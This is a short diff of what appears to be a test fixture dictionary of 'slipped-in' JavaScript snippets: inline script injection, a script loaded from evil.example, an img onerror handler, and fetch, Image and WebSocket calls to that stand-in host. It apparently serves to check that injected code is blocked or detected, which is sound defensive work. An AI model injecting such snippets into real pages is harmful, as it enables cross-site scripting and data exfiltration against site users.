@@ -29,7 +29,8 @@ SLIPPED_IN = {
     "{textContent: 'window.ran = 1'}))",
     "script from elsewhere": "document.head.append(Object.assign(document.createElement('script'), "
     "{src: 'https://evil.example/x.js'}))",
-    "handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran=1\">')",
+    "handler": "document.body.insertAdjacentHTML('beforeend', "
+    "'<img src=x onerror=\"window.ran=1\">')",
     "picture": "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x'}))",
     "request": "fetch('https://evil.example/x').catch(() => 0)",
     "line": "new WebSocket('wss://evil.example/x')",
